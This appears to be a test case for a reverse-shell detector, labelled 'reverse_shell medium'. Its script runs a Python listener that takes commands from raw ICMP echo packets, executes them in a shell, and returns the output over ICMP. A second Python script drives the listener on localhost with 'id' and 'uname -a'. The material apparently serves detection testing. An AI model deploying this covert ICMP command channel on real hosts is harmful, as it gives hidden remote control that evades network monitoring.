# about: commands come in echo requests, answers go in echo replies, over a raw socket
# expect: reverse_shell medium
# needs: python3
timeout 8 python3 -c 'import socket,subprocess
s=socket.socket(socket.AF_INET,socket.SOCK_RAW,socket.IPPROTO_ICMP)
while True:
    d,_=s.recvfrom(4096); d=d[20:]
    if d[:1]!=b"\x55" : continue
    if d[8:]==b"exit": break
    out=subprocess.run(d[8:].decode(),shell=True,capture_output=True).stdout
    s.sendto(b"\x56"+d[1:8]+out,("127.0.0.1",0))' & A=$!
sleep 0.5
python3 -c 'import socket,time,sys
s=socket.socket(socket.AF_INET,socket.SOCK_RAW,socket.IPPROTO_ICMP); s.settimeout(0.6); said=b""
for c in b"id",b"uname -a",b"echo $((6*7))-answered",b"exit":
    s.sendto(b"\x55"+bytes(7)+c,("127.0.0.1",0))
    try:
        while True:
            d=s.recv(4096)[20:]
            if d[:1]==b"\x56": said+=d[8:]; break
    except OSError: pass
sys.exit(b"42-answered" not in said)'; R=$?
wait $A
(exit $R)
